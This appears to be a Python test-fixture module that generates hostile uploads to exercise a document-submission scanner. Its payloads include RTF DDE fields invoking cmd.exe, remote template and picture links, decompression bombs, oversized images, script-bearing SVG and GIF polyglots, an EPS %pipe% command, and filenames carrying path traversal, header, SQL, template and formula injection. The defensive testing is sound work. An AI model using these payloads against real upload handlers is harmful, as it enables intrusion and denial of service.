"""Hostile rich texts, plain texts, pictures and names."""

import io
import struct
import zlib

from PIL import Image

from submissions.inspection.kinds import TEST_VIRUS
from tests.hostile import archives, pdfs

HTML = "<html><script>alert(document.cookie)</script></html>"


def rtf(body):
    return b"{\\rtf1\\ansi " + body + b"}"


def rtf_object(rng):
    word = rng.choice([b"\\object\\objemb", b"\\object\\objautlink\\objupdate", b"\\object\\objocx"])
    return rtf(b"{" + word + b"{\\*\\objdata " + rng.randbytes(40).hex().encode() + b"}}")


def rtf_template(rng):
    return rtf(
        b"{\\*\\template " + rng.choice([b"http://elsewhere.example/x.dotm", b"\\\\\\\\elsewhere\\\\x.dotm"]) + b"}"
    )


def rtf_dde(rng):
    words = rng.choice([b"DDEAUTO", b"D{\\b D}EAUTO", b"\\'44\\'44\\'45", b"dde"])
    return rtf(b"{\\field{\\*\\fldinst {" + words + b" cmd.exe}}{\\fldrslt x}}")


def rtf_remote_picture(rng):
    kind = rng.choice([b"INCLUDEPICTURE", b"INCLUDETEXT", b"LINK"])
    return rtf(b"{\\field{\\*\\fldinst " + kind + b' "http://elsewhere.example/x" \\\\d}{\\fldrslt }}')


def rtf_deep(rng):
    return rtf(b"{" * 50_000 + b"}" * 50_000)


def rtf_with_more(rng):
    return rtf(b"text") + rng.choice([b"MZ" + rng.randbytes(99), HTML.encode()])


def png(width=9, height=9, chunks=(), after=b""):
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    pixels = chunk(b"IDAT", zlib.compress(b"".join(b"\0" * (min(width, 99) + 1) for _ in range(min(height, 99)))))
    more = b"".join(chunk(*each) for each in chunks)
    return b"\x89PNG\r\n\x1a\n" + head + more + pixels + chunk(b"IEND", b"") + after


def jpg(exif=b"", after=b""):
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "green").save(out, "JPEG", exif=exif)
    return out.getvalue() + after


def huge_png(rng):
    return png(*rng.choice([(60_000, 60_000), (25_000, 25_000), (2**31 - 1, 1)]))


def huge_jpg(rng):
    data = jpg()
    place = data.find(b"\xff\xc0") + 5
    return data[:place] + struct.pack(">HH", 60_000, 60_000) + data[place + 4 :]


def png_words_bomb(rng):
    body = zlib.compress(b"a" * rng.randint(30, 60) * 1_000_000, 9)
    return png(chunks=[(b"zTXt", b"Comment\0\0" + body)])


def svg(rng):
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert({rng.random()})"><script>1</script></svg>'.encode()


def eps(rng):
    return b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file\n" + str(rng.random()).encode()


def exif_html(rng):
    exif = Image.Exif()
    exif[0x010E] = f"{HTML}{rng.random()}"
    return jpg(exif=exif.tobytes())


def gif_js(rng):
    return b"GIF89a/*" + rng.randbytes(20).hex().encode() + b"*/=1;alert(1)//"


def jpg_and_zip(rng):
    return jpg(after=archives.docx())


def png_and_zip(rng):
    return png(after=archives.docx())


def pdf_and_zip(rng):
    made = pdfs.pdf()
    return rng.choice([made + archives.docx(), made + archives.docx() + b"\n%%EOF\n", archives.docx() + made])


def pdf_shifted(rng):
    return rng.choice([HTML.encode(), b"\x89PNG\r\n\x1a\n", b"MZ" + rng.randbytes(30)]) + b"\n" + pdfs.pdf()


def zip_shifted(rng):
    return rng.choice([b"MZ" + rng.randbytes(60), HTML.encode(), b"%PDF-1.4\n"]) + archives.docx()


def zip_with_more(rng):
    return archives.docx() + rng.choice([HTML.encode(), rng.randbytes(100)])


def txt_and_zip(rng):
    return b"Dear Chair,\n" + archives.docx()


def binary_as_text(rng):
    return rng.choice([b"MZ", b"%PDF-1.7", b"\x7fELF", b"", b"\xff\xfe"]) + b"\0\1\2" + rng.randbytes(301)


def virus(rng):
    return b" " * rng.choice([0, 0, 7]) + TEST_VIRUS + b"\n" * rng.randint(0, 3)


def truncated(rng):
    """(name, content): the beginning of an honest file."""
    noise = rng.randbytes(9000)
    whole = {
        "pdf": pdfs.pdf(lambda made: setattr(made.Root, "Noise", made.make_stream(noise)), pages=3),
        "docx": archives.docx(("word/media/a.bin", noise)),
        "odt": archives.odt(("Pictures/a.bin", noise)),
        "rtf": rtf(b"{\\b bold} " * 300),
        "png": png(chunks=[(b"tEXt", b"Comment\0" + b"words" * 300)]),
        "jpg": jpg(exif=b"Exif\0\0" + b"MM\0*\0\0\0\x08\0\0\0\0\0\0" + bytes(500)),
    }
    ending, data = rng.choice(list(whole.items()))
    return f"half.{ending}", data[: int(len(data) * rng.uniform(0.2, 0.9))]


def wrong_magic(rng):
    contents = [b"MZ" + rng.randbytes(300), HTML.encode(), b"\x7fELF" + rng.randbytes(99), gif_js(rng), b"\0" * 99]
    ending = rng.choice(["pdf", "docx", "odt", "rtf", "png", "jpg", "jpeg"])
    return f"letter.{ending}", rng.choice(contents)


def swapped(rng):
    """An honest file of one kind under the ending of another."""
    whole = {
        "pdf": pdfs.pdf(),
        "docx": archives.docx(),
        "odt": archives.odt(),
        "rtf": rtf(b"x"),
        "png": png(),
        "jpg": jpg(),
    }
    ending, other = rng.sample(list(whole), 2)
    return f"letter.{ending}", whole[other]


def unknown(rng):
    return f"letter.{rng.choice(['exe', 'docm', 'html', 'svg', 'zip', 'doc', 'js', 'xlsx', 'pages', ''])}", pdfs.pdf()


def two_endings(rng):
    return f"letter.{rng.choice(['exe', 'scr', 'js', 'bat', 'docm'])}.{rng.choice(['pdf', 'PDF', ' pdf '])}", pdfs.pdf()


def zero_bytes(rng):
    return f"empty.{rng.choice(['pdf', 'docx', 'odt', 'rtf', 'txt', 'png', 'jpg'])}", b""


def oversize(rng):
    return f"large.{rng.choice(['pdf', 'txt', 'png'])}", bytes(20 * 1024 * 1024 + rng.randint(1, 999))


NAUGHTY = ["a\u202efdp.pdf", "../../../etc/passwd.pdf", "..\\..\\boot.pdf", "a\r\nSet-Cookie: x=1.pdf", "C:\\con.pdf"]
NAUGHTY += [
    "nul.pdf",
    "x" * 700 + ".pdf",
    "<script>alert(1)</script>.pdf",
    ". .pdf",
    "a\0b.pdf",
    "’; DROP TABLE--.pdf",
]
NAUGHTY += ["\u200b\u2066.pdf", '"quoted";x=y.pdf', "%2e%2e%2fx.pdf", "{{7*7}}.pdf", "=cmd()!A1.pdf", "\ud800.pdf"]


def naughty_name(rng):
    return rng.choice(NAUGHTY), pdfs.pdf()
